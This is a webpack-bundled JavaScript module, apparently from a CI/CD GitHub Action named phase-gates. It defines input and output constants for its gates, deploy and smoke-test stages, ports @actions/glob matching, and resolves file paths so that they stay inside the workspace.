export const id = 342;
export const ids = [342];
export const modules = {

/***/ 5342:
/***/ ((__webpack_module__, __webpack_exports__, __webpack_require__) => {

__webpack_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
__webpack_require__.r(__webpack_exports__);
/* harmony import */ var _host_actions_host_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5879);
/* harmony import */ var _host_run_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4956);
/* harmony import */ var _core_commands_validate_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(8315);
/** Entry of actions/workflows-validation: builds the runner host and runs the validate command. */



process.exitCode = await (0,_host_run_js__WEBPACK_IMPORTED_MODULE_1__/* .runCommand */ .d)(new _host_actions_host_js__WEBPACK_IMPORTED_MODULE_0__/* .ActionsHost */ .Q(), _core_commands_validate_js__WEBPACK_IMPORTED_MODULE_2__/* .runValidate */ .ED);

__webpack_async_result__();
} catch(e) { __webpack_async_result__(e); } }, 1);

/***/ }),

/***/ 8315:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  ED: () => (/* binding */ runValidate)
});

// UNUSED EXPORTS: DEFAULT_CONFIG, DEFAULT_PATHS, DEFAULT_REQUIRED_CHECKS, VALIDATION_REPORT_SCHEMA

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(6760);
// EXTERNAL MODULE: ./.build/src/core/errors.js
var core_errors = __webpack_require__(6512);
;// CONCATENATED MODULE: ./.build/src/core/constants.js
/** Input and output names, once. Each notes the actions that use it. */
/** Inputs of gates-enforcer (and the root action). */
const GatesInputs = {
    PhaseFile: 'phase-file',
    Gates: 'gates',
    CoverageFiles: 'coverage-files',
    PerfFiles: 'perf-files',
    VulnFiles: 'vuln-files',
    GithubAlerts: 'github-alerts',
    SmokeReport: 'smoke-report',
    Metrics: 'metrics',
    FailOnMissing: 'fail-on-missing',
    Fail: 'fail',
    CheckName: 'check-name',
    ReportPath: 'report-path',
    Token: 'token',
    BaseRef: 'base-ref',
    BaseReport: 'base-report',
    BaseArtifact: 'base-artifact',
    Comment: 'comment',
    AnalysisReport: 'analysis-report'
};
/** Outputs of gates-enforcer. */
const GatesOutputs = {
    Passed: 'passed',
    FailedGates: 'failed-gates',
    Report: 'report',
    ReportPath: 'report-path'
};
/** Default artifact paths (SPEC, "Artifacts"). */
const Defaults = {
    GatesReport: 'gates-report.json',
    ValidationSarif: 'workflows-validation.sarif',
    DeployLog: 'ci/deploy-logs.txt',
    SmokeReport: 'post-deploy/smoke-report.json',
    /** The artifact whose gates report of the base branch relative gates compare with. */
    BaseArtifact: 'gates-report'
};
const GATES_REPORT_SCHEMA = 'phase-gates/gates-report@1';
/** Inputs of workflows-validation. */
const ValidationInputs = {
    Paths: 'paths',
    RequiredChecks: 'required-checks',
    BaseBranch: 'base-branch',
    Config: 'config',
    FailOn: 'fail-on',
    SarifPath: 'sarif-path',
    Token: 'token'
};
/** Outputs of workflows-validation. */
const ValidationOutputs = {
    Valid: 'valid',
    ErrorCount: 'error-count',
    WarningCount: 'warning-count',
    SarifPath: 'sarif-path',
    Report: 'report'
};
/** Inputs of smoke-test (and the root action). */
const SmokeInputs = {
    Url: 'url',
    Checks: 'checks',
    WaitForReady: 'wait-for-ready',
    Retries: 'retries',
    RetryDelayMs: 'retry-delay-ms',
    TimeoutMs: 'timeout-ms',
    FollowRedirects: 'follow-redirects',
    Samples: 'samples',
    Concurrency: 'concurrency',
    P95Ms: 'p95-ms',
    MaxErrorRate: 'max-error-rate',
    MonitorSeconds: 'monitor-seconds',
    ReportPath: 'report-path',
    DeploymentId: 'deployment-id',
    Analysis: 'analysis',
    AnalysisArgs: 'analysis-args',
    OnInconclusive: 'on-inconclusive',
    AnalysisReportPath: 'analysis-report-path',
    LogPath: 'log-path',
    Token: 'token'
};
/** Outputs of smoke-test. */
const SmokeOutputs = {
    Passed: 'passed',
    ReportPath: 'report-path',
    P95Ms: 'p95-ms',
    ErrorRate: 'error-rate',
    FailedChecks: 'failed-checks'
};
const SMOKE_REPORT_SCHEMA = 'phase-gates/smoke-report@1';
/** Inputs of deploy (and the root action). */
const DeployInputs = {
    Environment: 'environment',
    Production: 'production',
    Mode: 'mode',
    Provider: 'provider',
    ProviderOptions: 'provider-options',
    Version: 'version',
    Run: 'run',
    RollbackRun: 'rollback-run',
    MigrateRun: 'migrate-run',
    // The release checklist (issue 18): each a pre-deploy check.
    RequireCiGreen: 'require-ci-green',
    CiWaitMinutes: 'ci-wait-minutes',
    RequireApproval: 'require-approval',
    VerifyAttestation: 'verify-attestation',
    AttestationBundle: 'attestation-bundle',
    AttestationTrustedRoot: 'attestation-trusted-root',
    AttestationSigner: 'attestation-signer',
    AttestationKey: 'attestation-key',
    AttestationRepository: 'attestation-repository',
    RehearseRollback: 'rehearse-rollback',
    MigrateCheck: 'migrate-check',
    MigrateDatabaseUrl: 'migrate-database-url',
    MigrateAllow: 'migrate-allow',
    ExpandContract: 'expand-contract',
    Changelog: 'changelog',
    RequireChangelog: 'require-changelog',
    Strategy: 'strategy',
    CanarySteps: 'canary-steps',
    VerifyChecks: 'verify-checks',
    Analysis: 'analysis',
    AnalysisArgs: 'analysis-args',
    OnInconclusive: 'on-inconclusive',
    AnalysisReportPath: 'analysis-report-path',
    GatesReport: 'gates-report',
    RequireGates: 'require-gates',
    StagingEnvironment: 'staging-environment',
    RequireStaging: 'require-staging',
    FreezeWindows: 'freeze-windows',
    Timezone: 'timezone',
    FreezeOverride: 'freeze-override',
    RequiredSecrets: 'required-secrets',
    Region: 'region',
    AllowedRegions: 'allowed-regions',
    EnvironmentUrl: 'environment-url',
    TimeoutMinutes: 'timeout-minutes',
    LockStaleMinutes: 'lock-stale-minutes',
    DryRun: 'dry-run',
    LogPath: 'log-path',
    LedgerPath: 'ledger-path',
    Token: 'token'
};
/** Outputs of deploy. */
const DeployOutputs = {
    DeploymentId: 'deployment-id',
    EnvironmentUrl: 'environment-url',
    Version: 'version',
    PreviousVersion: 'previous-version',
    Status: 'status',
    RollbackPerformed: 'rollback-performed',
    RollbackSkipped: 'rollback-skipped',
    LogPath: 'log-path',
    FailedChecks: 'failed-checks'
};
/** The local deployments ledger of deploy, used without a token (inside the workspace). */
const DEPLOY_LEDGER_DEFAULT = '.phase-gates/deployments.jsonl';
/**
 * Inputs of the root action (action.yml: gates → deploy → smoke-test → rollback → Phase 07 gate).
 * Each keeps the name its action gives it; where two actions share a name with different
 * meanings, the plain name keeps the gates-enforcer meaning and the other is prefixed
 * (`smoke-report-path` is smoke-test's `report-path`). `token` is shared by every stage. Not
 * inputs, because the chain wires them: deploy's `mode`, `gates-report` and `require-gates`,
 * smoke-test's `deployment-id` and `log-path` (deploy's audit log), and the Phase 07 gate's
 * `analysis-report`.
 */
const PipelineInputs = {
    // gates-enforcer (Phase 05 → 06)
    PhaseFile: 'phase-file',
    Gates: 'gates',
    CoverageFiles: 'coverage-files',
    PerfFiles: 'perf-files',
    VulnFiles: 'vuln-files',
    GithubAlerts: 'github-alerts',
    SmokeReport: 'smoke-report',
    Metrics: 'metrics',
    FailOnMissing: 'fail-on-missing',
    Fail: 'fail',
    CheckName: 'check-name',
    BaseRef: 'base-ref',
    BaseReport: 'base-report',
    BaseArtifact: 'base-artifact',
    Comment: 'comment',
    ReportPath: 'report-path',
    // deploy
    Environment: 'environment',
    Production: 'production',
    Provider: 'provider',
    ProviderOptions: 'provider-options',
    Version: 'version',
    Run: 'run',
    RollbackRun: 'rollback-run',
    MigrateRun: 'migrate-run',
    RequireCiGreen: 'require-ci-green',
    CiWaitMinutes: 'ci-wait-minutes',
    RequireApproval: 'require-approval',
    VerifyAttestation: 'verify-attestation',
    AttestationBundle: 'attestation-bundle',
    AttestationTrustedRoot: 'attestation-trusted-root',
    AttestationSigner: 'attestation-signer',
    AttestationKey: 'attestation-key',
    AttestationRepository: 'attestation-repository',
    RehearseRollback: 'rehearse-rollback',
    MigrateCheck: 'migrate-check',
    MigrateDatabaseUrl: 'migrate-database-url',
    MigrateAllow: 'migrate-allow',
    ExpandContract: 'expand-contract',
    Changelog: 'changelog',
    RequireChangelog: 'require-changelog',
    Strategy: 'strategy',
    CanarySteps: 'canary-steps',
    VerifyChecks: 'verify-checks',
    // analysis (deploy between canary steps and after a blue-green switch; smoke-test's bake)
    Analysis: 'analysis',
    AnalysisArgs: 'analysis-args',
    OnInconclusive: 'on-inconclusive',
    AnalysisReportPath: 'analysis-report-path',
    StagingEnvironment: 'staging-environment',
    RequireStaging: 'require-staging',
    FreezeWindows: 'freeze-windows',
    Timezone: 'timezone',
    FreezeOverride: 'freeze-override',
    RequiredSecrets: 'required-secrets',
    Region: 'region',
    AllowedRegions: 'allowed-regions',
    EnvironmentUrl: 'environment-url',
    TimeoutMinutes: 'timeout-minutes',
    LockStaleMinutes: 'lock-stale-minutes',
    DryRun: 'dry-run',
    LogPath: 'log-path',
    LedgerPath: 'ledger-path',
    // smoke-test
    Url: 'url',
    Checks: 'checks',
    WaitForReady: 'wait-for-ready',
    Retries: 'retries',
    RetryDelayMs: 'retry-delay-ms',
    TimeoutMs: 'timeout-ms',
    FollowRedirects: 'follow-redirects',
    Samples: 'samples',
    Concurrency: 'concurrency',
    P95Ms: 'p95-ms',
    MaxErrorRate: 'max-error-rate',
    MonitorSeconds: 'monitor-seconds',
    SmokeReportPath: 'smoke-report-path',
    // the Phase 07 gate
    Phase07Gates: 'phase-07-gates',
    Phase07ReportPath: 'phase-07-report-path',
    // every stage
    Token: 'token'
};
/** Outputs of the root action: each stage's, named after the stage where the plain name is taken. */
const PipelineOutputs = {
    // gates-enforcer (Phase 05 → 06)
    GatesPassed: 'gates-passed',
    FailedGates: 'failed-gates',
    Report: 'report',
    ReportPath: 'report-path',
    // deploy (and the rollback after a failed smoke test)
    DeploymentId: 'deployment-id',
    EnvironmentUrl: 'environment-url',
    Version: 'version',
    PreviousVersion: 'previous-version',
    DeployStatus: 'deploy-status',
    RollbackPerformed: 'rollback-performed',
    RollbackSkipped: 'rollback-skipped',
    LogPath: 'log-path',
    DeployFailedChecks: 'deploy-failed-checks',
    // smoke-test
    SmokePassed: 'smoke-passed',
    SmokeReportPath: 'smoke-report-path',
    P95Ms: 'p95-ms',
    ErrorRate: 'error-rate',
    FailedChecks: 'failed-checks',
    // the Phase 07 gate
    Phase07Passed: 'phase-07-passed',
    Phase07FailedGates: 'phase-07-failed-gates',
    Phase07Report: 'phase-07-report',
    Phase07ReportPath: 'phase-07-report-path',
    // the whole chain
    Passed: 'passed',
    FailedStage: 'failed-stage'
};
/** Where the root action writes the Phase 07 gates report (beside the smoke report; Phase 05's stays gates-report.json). */
const PHASE_07_REPORT_DEFAULT = 'post-deploy/gates-report.json';

;// CONCATENATED MODULE: ./.build/src/core/inputs.js

/** A trimmed input value, or `fallback` when unset. */
function input(host, name, fallback = '') {
    const v = host.getInput(name).trim();
    return v === '' ? fallback : v;
}
/** A boolean input as the runner's YAML 1.2 core schema reads it (true/True/TRUE, false/False/FALSE). */
function booleanInput(host, name, fallback) {
    const v = host.getInput(name).trim();
    if (v === '')
        return fallback;
    if (['true', 'True', 'TRUE'].includes(v))
        return true;
    if (['false', 'False', 'FALSE'].includes(v))
        return false;
    throw new UserError(`not a boolean: ${JSON.stringify(v)}`, { input: name, hint: 'write true or false' });
}
/** A required input. */
function requiredInput(host, name) {
    const v = input(host, name);
    if (!v)
        throw new UserError('required and not supplied', { input: name });
    return v;
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(3024);
// EXTERNAL MODULE: external "node:string_decoder"
var external_node_string_decoder_ = __webpack_require__(6193);
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(7598);
// EXTERNAL MODULE: ./node_modules/minimatch/dist/esm/index.js + 7 modules
var esm = __webpack_require__(3581);
;// CONCATENATED MODULE: ./.build/src/core/glob.js
/**
 * The globs of list inputs, expanded exactly as `@actions/glob` 0.7.0 expands them (its
 * internal-pattern.js, internal-pattern-helper.js and internal-globber.js, ported): the same
 * minimatch options (dot files matched, no braces, no extglobs, no comments, case-insensitive on
 * Windows), the same search paths (each pattern's literal directory, nested ones walked once),
 * `!` patterns excluding in order, a trailing separator meaning directories, implicit descendants on
 * request, symbolic links never followed (a link is reported as a file), directories not matched.
 *
 * Why not `@actions/glob` itself: it imports `@actions/core`, whose index loads undici and compiles
 * its WebAssembly on import, the largest part of every action's start-up (see
 * src/host/runner-commands.ts). test/unit/glob.test.ts holds this port to `@actions/glob` on real
 * trees (it stays a devDependency for that).
 */



const IS_WINDOWS = process.platform === 'win32';
/** What a pattern matches at a path: nothing, directories (trailing separator), or both. */
var Kind;
(function (Kind) {
    Kind[Kind["None"] = 0] = "None";
    Kind[Kind["Directory"] = 1] = "Directory";
    Kind[Kind["File"] = 2] = "File";
    Kind[Kind["All"] = 3] = "All";
})(Kind || (Kind = {}));
function normalizeSeparators(p) {
    return IS_WINDOWS ? p.replace(/\//g, '\\').replace(/\\\\+/g, '\\') : p.replace(/\/\/+/g, '/');
}
function hasRoot(p) {
    return IS_WINDOWS ? /^(?:[A-Z]:|\\)/i.test(normalizeSeparators(p)) : p.startsWith('/');
}
function dirname(p) {
    p = trimTrailingSeparator(p);
    return IS_WINDOWS && /^\\\\[^\\]+(\\[^\\]+)?$/.test(p) ? p : external_node_path_.dirname(p);
}
/** Without its trailing separator, unless it is the root. */
function trimTrailingSeparator(p) {
    if (!p)
        return '';
    p = normalizeSeparators(p);
    if (!p.endsWith(external_node_path_.sep) || p === external_node_path_.sep)
        return p;
    const trimmed = p.slice(0, -1);
    return IS_WINDOWS && /^[A-Z]:$/i.test(trimmed) ? p : trimmed;
}
/** The segments of a rooted path: the root first. */
function segmentsOf(p) {
    p = trimTrailingSeparator(p);
    if (!hasRoot(p))
        return p.split(external_node_path_.sep);
    const segments = [];
    let remaining = p;
    let dir = dirname(remaining);
    while (dir !== remaining) {
        segments.unshift(external_node_path_.basename(remaining));
        remaining = dir;
        dir = dirname(remaining);
    }
    segments.unshift(remaining);
    return segments;
}
function joinSegments(segments) {
    let result = segments[0];
    let skipSlash = result.endsWith(external_node_path_.sep) || (IS_WINDOWS && /^[A-Z]:$/i.test(result));
    for (const s of segments.slice(1)) {
        if (skipSlash)
            skipSlash = false;
        else
            result += external_node_path_.sep;
        result += s;
    }
    return result;
}
/** A segment without glob characters as the literal name it stands for (escapes and one-character sets resolved), else ''. */
function literalOf(segment) {
    let literal = '';
    for (let i = 0; i < segment.length; i++) {
        const c = segment[i];
        if (c === '\\' && !IS_WINDOWS && i + 1 < segment.length) {
            literal += segment[++i];
            continue;
        }
        if (c === '*' || c === '?')
            return '';
        if (c === '[' && i + 1 < segment.length) {
            let set = '';
            let closed = -1;
            for (let j = i + 1; j < segment.length; j++) {
                const d = segment[j];
                if (d === '\\' && !IS_WINDOWS && j + 1 < segment.length) {
                    set += segment[++j];
                    continue;
                }
                if (d === ']') {
                    closed = j;
                    break;
                }
                set += d;
            }
            if (closed >= 0) {
                if (set.length > 1)
                    return '';
                if (set) {
                    literal += set;
                    i = closed;
                    continue;
                }
            }
        }
        literal += c;
    }
    return literal;
}
class Pattern {
    implicit;
    negate;
    segments;
    searchPath;
    trailingSeparator;
    rootRegExp;
    minimatch;
    constructor(text, negate, implicit = false) {
        this.implicit = implicit;
        let pattern = text.trim();
        while (pattern.startsWith('!')) {
            negate = !negate;
            pattern = pattern.slice(1).trim();
        }
        this.negate = negate;
        pattern = normalizeSeparators(pattern);
        if (!hasRoot(pattern) || !literalOf(segmentsOf(pattern)[0]))
            throw new Error(`glob: not an absolute pattern: ${pattern}`);
        this.segments = segmentsOf(pattern);
        this.trailingSeparator = pattern.endsWith(external_node_path_.sep);
        pattern = trimTrailingSeparator(pattern);
        let foundGlob = false;
        const search = this.segments.map(literalOf).filter((x) => !foundGlob && !(foundGlob = x === ''));
        this.searchPath = joinSegments(search);
        this.rootRegExp = new RegExp(search[0].replace(/[[\\^$.|?*+()]/g, '\\$&'), IS_WINDOWS ? 'i' : '');
        this.minimatch = new esm/* Minimatch */.VR(IS_WINDOWS ? pattern.replace(/\\/g, '/') : pattern, {
            dot: true,
            nobrace: true,
            nocase: IS_WINDOWS,
            nocomment: true,
            noext: true,
            nonegate: true
        });
    }
    /** The pattern with `/**` added: what `implicitDescendants` matches too. */
    descendants() {
        return new Pattern(joinSegments([...this.segments, '**']), this.negate, true);
    }
    match(itemPath) {
        if (this.segments[this.segments.length - 1] === '**') {
            itemPath = normalizeSeparators(itemPath);
            if (!itemPath.endsWith(external_node_path_.sep) && !this.implicit)
                itemPath += external_node_path_.sep;
        }
        else
            itemPath = trimTrailingSeparator(itemPath);
        if (!this.minimatch.match(itemPath))
            return Kind.None;
        return this.trailingSeparator ? Kind.Directory : Kind.All;
    }
    /** Whether the pattern may match something under `itemPath`. */
    partialMatch(itemPath) {
        itemPath = trimTrailingSeparator(itemPath);
        if (dirname(itemPath) === itemPath)
            return this.rootRegExp.test(itemPath);
        return this.minimatch.matchOne(itemPath.split(IS_WINDOWS ? /\\+/ : /\/+/), this.minimatch.set[0], true);
    }
}
/** The search paths of the include patterns: each literal directory once, none under another. */
function searchPaths(patterns) {
    const includes = patterns.filter((p) => !p.negate);
    const key = (p) => (IS_WINDOWS ? p.toUpperCase() : p);
    const state = new Map(includes.map((p) => [key(p.searchPath), 'candidate']));
    const result = [];
    for (const p of includes) {
        const k = key(p.searchPath);
        if (state.get(k) === 'included')
            continue;
        let found = false;
        for (let child = k, parent = dirname(k); parent !== child; child = parent, parent = dirname(parent)) {
            if (state.has(parent)) {
                found = true;
                break;
            }
        }
        if (!found) {
            result.push(p.searchPath);
            state.set(k, 'included');
        }
    }
    return result;
}
function matchAll(patterns, itemPath) {
    let result = Kind.None;
    for (const p of patterns)
        result = p.negate ? result & ~p.match(itemPath) : result | p.match(itemPath);
    return result;
}
/**
 * The files (and links) the absolute patterns match, one per line, `!` to exclude, `#` a comment,
 * in `@actions/glob`'s order. `visit` is called for each directory entry looked at (a caller bounds
 * the walk with it).
 */
async function globFiles(patternLines, options, visit) {
    const patterns = [];
    for (const line of patternLines.replace(/\r\n?/g, '\n').split('\n').map((x) => x.trim())) {
        if (!line || line.startsWith('#'))
            continue;
        const p = new Pattern(line, false);
        patterns.push(p);
        if (options.implicitDescendants && (p.trailingSeparator || p.segments[p.segments.length - 1] !== '**'))
            patterns.push(p.descendants());
    }
    const stack = [];
    for (const searchPath of searchPaths(patterns)) {
        try {
            await external_node_fs_.promises.lstat(searchPath);
        }
        catch (err) {
            if (err.code === 'ENOENT')
                continue;
            throw err;
        }
        stack.unshift(searchPath);
    }
    const result = [];
    while (stack.length) {
        const item = stack.pop();
        const match = matchAll(patterns, item);
        const partial = !!match || patterns.some((p) => !p.negate && p.partialMatch(item));
        if (!match && !partial)
            continue;
        const stats = await external_node_fs_.promises.lstat(item);
        if (stats.isDirectory()) {
            if (!partial)
                continue;
            const children = await external_node_fs_.promises.readdir(item);
            visit?.(children.length);
            stack.push(...children.map((x) => external_node_path_.join(item, x)).reverse());
        }
        else if (match & Kind.File)
            result.push(item);
    }
    return result;
}

;// CONCATENATED MODULE: ./.build/src/core/files.js
/**
 * Files named by inputs: globs resolved inside the workspace, heads sniffed, lines streamed with
 * bounded memory, reports written atomically.
 */







/** Splits a list input: one item per line or comma-separated (commas inside `{…}` belong to the glob). */
function splitList(value) {
    const items = [];
    for (const line of value.split(/\r?\n/)) {
        let depth = 0;
        let current = '';
        for (const ch of line) {
            if (ch === '{')
                depth++;
            else if (ch === '}')
                depth = Math.max(0, depth - 1);
            if (ch === ',' && depth === 0) {
                items.push(current);
                current = '';
            }
            else
                current += ch;
        }
        items.push(current);
    }
    return items.map((s) => s.trim()).filter((s) => s.length > 0 && !s.startsWith('#'));
}
function isInside(root, candidate) {
    const rel = external_node_path_.relative(root, candidate);
    return rel === '' || (!rel.startsWith('..') && !external_node_path_.isAbsolute(rel));
}
function realWorkspace(workspace) {
    try {
        return (0,external_node_fs_.realpathSync)(workspace);
    }
    catch {
        return external_node_path_.resolve(workspace);
    }
}
/** The path relative to the workspace, with forward slashes, for reports and messages. */
function displayPath(workspace, file) {
    const rel = external_node_path_.relative(realWorkspace(workspace), file);
    return (rel && !rel.startsWith('..') ? rel : file).split(external_node_path_.sep).join('/');
}
/** Most links followed while resolving one path (the kernel's own limit is 40). */
const MAX_LINK_HOPS = 40;
/**
 * The real path of `resolved`: its longest existing prefix through realpath, the rest appended. A
 * dangling link on the way is followed to where it points (a write through it would land there).
 */
function realOf(resolved, hops = 0) {
    let probe = resolved;
    const tail = [];
    for (;;) {
        try {
            return external_node_path_.join((0,external_node_fs_.realpathSync)(probe), ...tail.reverse());
        }
        catch {
            let target;
            try {
                if ((0,external_node_fs_.lstatSync)(probe).isSymbolicLink())
                    target = (0,external_node_fs_.readlinkSync)(probe);
            }
            catch {
                // Not there at all: its parent is looked at next.
            }
            if (target !== undefined && hops < MAX_LINK_HOPS)
                return realOf(external_node_path_.join(external_node_path_.resolve(external_node_path_.dirname(probe), target), ...tail.reverse()), hops + 1);
            const parent = external_node_path_.dirname(probe);
            if (parent === probe)
                return resolved;
            tail.push(external_node_path_.basename(probe));
            probe = parent;
        }
    }
}
/**
 * Resolves a path given by `input` against the workspace and refuses one that escapes it,
 * through `..`, an absolute path elsewhere, or a symbolic link. An absolute path into the
 * workspace is accepted, also through another name of it (a link to it, `$PWD` of a shell that
 * entered through one). Returns the real path.
 */
function resolveInWorkspace(workspace, given, input) {
    const root = realWorkspace(workspace);
    const resolved = external_node_path_.resolve(root, given);
    const real = realOf(resolved);
    if (!isInside(root, real)) {
        // Inside by its name but not by where it leads: a link inside the workspace points out.
        const throughLink = isInside(root, resolved) || isInside(external_node_path_.resolve(workspace), resolved);
        throw new core_errors/* UserError */.y(throughLink ? `path escapes the workspace through a link: ${given}` : `path escapes the workspace: ${given}`, { input });
    }
    return real;
}
/**
 * Like {@link resolveInWorkspace}, for a file the command writes (a report, a log, a ledger): a
 * directory there is refused in one line, before any work is done.
 */
function resolveOutputInWorkspace(workspace, given, input) {
    const file = resolveInWorkspace(workspace, given, input);
    if (isDirectory(file))
        throw new core_errors/* UserError */.y(`${given} is a directory: give the path of a file in it`, { input });
    return file;
}
/**
 * Opens a file of the workspace for appending (creating it and its directory): never through a
 * symbolic link, dangling ones included (O_NOFOLLOW), never a directory. Returns the descriptor.
 */
function openAppend(file, shown, input) {
    try {
        mkdirSync(path.dirname(file), { recursive: true });
        return openSync(file, fsConstants.O_WRONLY | fsConstants.O_APPEND | fsConstants.O_CREAT | fsConstants.O_NOFOLLOW, 0o644);
    }
    catch (err) {
        const code = err.code;
        if (code === 'ELOOP')
            throw new UserError(`${shown} is a symbolic link: refused (phase-gates does not write through links)`, { input });
        if (code === 'EISDIR')
            throw new UserError(`${shown} is a directory: give the path of a file`, { input });
        if (code === 'ENOTDIR' || code === 'EEXIST')
            throw new UserError(`cannot create ${shown}: a part of its path is a file`, { input });
        throw err;
    }
}
/**
 * Expands the globs of a list input (one per line or comma-separated, `!` to exclude) into
 * files inside the workspace. A pattern that escapes the workspace or matches nothing is an error.
 * A pattern naming a directory goes to `directory` (without one: an error saying so).
 */
async function expandGlobs(workspace, value, input, directory) {
    const root = realWorkspace(workspace);
    const patterns = splitList(value);
    const found = new Set();
    const excludes = patterns.filter((p) => p.startsWith('!')).map((e) => realPattern(root, e.slice(1), input));
    for (const pattern of patterns) {
        if (pattern.startsWith('!'))
            continue;
        const absolute = realPattern(root, pattern, input);
        if (!/[*?[\]{}]/.test(pattern) && isDirectory(absolute)) {
            const shown = pattern.replace(/\/+$/, '') || '.';
            if (!directory)
                throw new core_errors/* UserError */.y(`${JSON.stringify(shown)} is a directory: name the files in it (a glob such as ${shown}/**/*.xml)`, { input });
            const excluded = excludes.length ? await files_matchAll(excludes) : new Set();
            for (const f of await directory(absolute, shown))
                if (!excluded.has(f))
                    found.add(f);
            continue;
        }
        await boundGlobWalk(root, absolute, pattern, input);
        const matches = await globFiles([absolute, ...excludes.map((e) => '!' + e)].join('\n'), { implicitDescendants: false });
        if (matches.length === 0) {
            throw new core_errors/* UserError */.y(`no file matches ${JSON.stringify(pattern)}`, { input });
        }
        for (const match of matches.sort()) {
            let real;
            try {
                real = (0,external_node_fs_.realpathSync)(match);
            }
            catch (err) {
                const code = err.code;
                if (code !== 'ENOENT' && code !== 'ELOOP')
                    throw err;
                throw new core_errors/* UserError */.y(`${displayPath(root, match)} is a symbolic link to ${code === 'ELOOP' ? 'itself (a loop of links)' : 'nothing (its target is missing)'}`, { input });
            }
            if (!isInside(root, real))
                throw new core_errors/* UserError */.y(`path escapes the workspace: ${displayPath(root, match)}`, { input });
            found.add(real);
        }
    }
    return [...found];
}
/** Most directory entries a glob may make the walk look at. */
const MAX_GLOB_ENTRIES = 100_000;
/**
 * Refuses a glob whose walk would look at more than {@link MAX_GLOB_ENTRIES} entries, before the
 * walk: a pattern of three `**` segments over a tree of 100,000 files took @actions/glob (whose walk glob.ts ports) 41 s. Counts the entries under the
 * pattern's literal directory, to the depth its segments reach (any depth after `**`), without
 * following links; stops counting at the limit, so the count itself is bounded.
 */
async function boundGlobWalk(root, absolute, pattern, input) {
    const parts = absolute.split(external_node_path_.sep);
    const first = parts.findIndex((p) => /[*?[\]{}]/.test(p));
    if (first < 0)
        return;
    const base = parts.slice(0, first).join(external_node_path_.sep) || external_node_path_.sep;
    const rest = parts.slice(first);
    const depth = rest.some((p) => p.includes('**')) ? Infinity : rest.length;
    let seen = 0;
    const walk = async (dir, level) => {
        let entries;
        try {
            entries = await external_node_fs_.promises.readdir(dir, { withFileTypes: true });
        }
        catch {
            return; // unreadable or gone: the glob skips it too
        }
        seen += entries.length;
        if (seen > MAX_GLOB_ENTRIES) {
            const rel = external_node_path_.relative(root, base);
            const shown = rel === '' ? '.' : rel.startsWith('..') ? base : rel;
            throw new core_errors/* UserError */.y(`${JSON.stringify(pattern)} would walk more than ${MAX_GLOB_ENTRIES.toLocaleString('en-US')} entries under ${shown}: start it with the directory that holds the files`, { input });
        }
        if (level + 1 >= depth)
            return;
        for (const e of entries)
            if (e.isDirectory())
                await walk(external_node_path_.join(dir, e.name), level + 1);
    };
    await walk(base, 0);
}
async function files_matchAll(patterns) {
    return new Set((await globFiles(patterns.join('\n'), { implicitDescendants: true })).map((m) => (0,external_node_fs_.realpathSync)(m)));
}
function isDirectory(file) {
    try {
        return (0,external_node_fs_.statSync)(file).isDirectory();
    }
    catch {
        return false;
    }
}
/** Most directory entries a walk of a directory named by an input looks at. */
const MAX_WALK_ENTRIES = 20_000;
/** Directories a walk never enters: dependencies and version control. */
const SKIPPED_DIRS = new Set(['node_modules', '.git', 'vendor', 'bower_components']);
/**
 * The regular files under `dir` (symbolic links not followed; dependency and version-control
 * directories skipped), sorted, at most `maxDepth` levels down. Past {@link MAX_WALK_ENTRIES}
 * entries it stops with an error naming the directory and the input.
 */
async function filesUnder(dir, shown, input, maxDepth = 12) {
    const files = [];
    let seen = 0;
    const walk = async (d, depth) => {
        let entries;
        try {
            entries = await external_node_fs_.promises.readdir(d, { withFileTypes: true });
        }
        catch (err) {
            const where = d === dir ? shown : external_node_path_.join(shown, external_node_path_.relative(dir, d));
            throw new core_errors/* UserError */.y(`cannot read the directory ${where} (${err.code})`, { input });
        }
        entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
        for (const e of entries) {
            if (++seen > MAX_WALK_ENTRIES)
                throw new core_errors/* UserError */.y(`${shown} holds more than ${MAX_WALK_ENTRIES} entries: name the files or a smaller directory in it`, { input });
            const full = external_node_path_.join(d, e.name);
            if (e.isFile())
                files.push(full);
            else if (e.isDirectory() && !SKIPPED_DIRS.has(e.name) && depth < maxDepth)
                await walk(full, depth + 1);
        }
    };
    await walk(dir, 0);
    return files;
}
/**
 * A pattern made absolute with its literal directory part replaced by that directory's real path
 * (refused when it escapes the workspace), so that matches and excludes share one spelling.
 */
function realPattern(root, pattern, input) {
    const base = pattern.replace(/^\.\//, '');
    const { prefix, count } = globPrefix(base);
    const rest = base.split('/').slice(count);
    const realPrefix = resolveInWorkspace(root, prefix, input);
    return rest.length ? external_node_path_.join(realPrefix, ...rest) : realPrefix;
}
/** The literal directory part of a glob (up to the first segment holding a wildcard), and how many segments it has. */
function globPrefix(pattern) {
    const segments = pattern.split('/');
    let count = 0;
    while (count < segments.length && !/[*?[\]{}]/.test(segments[count]))
        count++;
    const literal = segments.slice(0, count).join('/');
    return { prefix: literal || (pattern.startsWith('/') ? '/' : '.'), count };
}
/** Bytes read from the start of a report to recognise its format. */
const HEAD_BYTES = (/* unused pure expression or super */ null && (64 * 1024));
/** Reads the head of a report; refuses empty and binary files with a message naming them. */
async function readHead(file, shown, input) {
    let handle;
    try {
        handle = await fs.open(file, 'r');
    }
    catch (err) {
        const code = err.code;
        throw new UserError(code === 'ENOENT' ? 'file not found' : `cannot read (${code})`, { input, file: shown });
    }
    try {
        const stat = await handle.stat();
        if (!stat.isFile())
            throw new UserError('not a regular file', { input, file: shown });
        const buffer = Buffer.alloc(Math.min(HEAD_BYTES, stat.size));
        const { bytesRead } = await handle.read(buffer, 0, buffer.length, 0);
        const bytes = buffer.subarray(0, bytesRead);
        if (bytes.length === 0 || bytes.toString('utf8').trim() === '') {
            throw new UserError('empty report', { input, file: shown });
        }
        if (bytes.includes(0))
            throw new UserError('binary file, not a report', { input, file: shown });
        let text = bytes.toString('utf8');
        if (text.charCodeAt(0) === 0xfeff)
            text = text.slice(1);
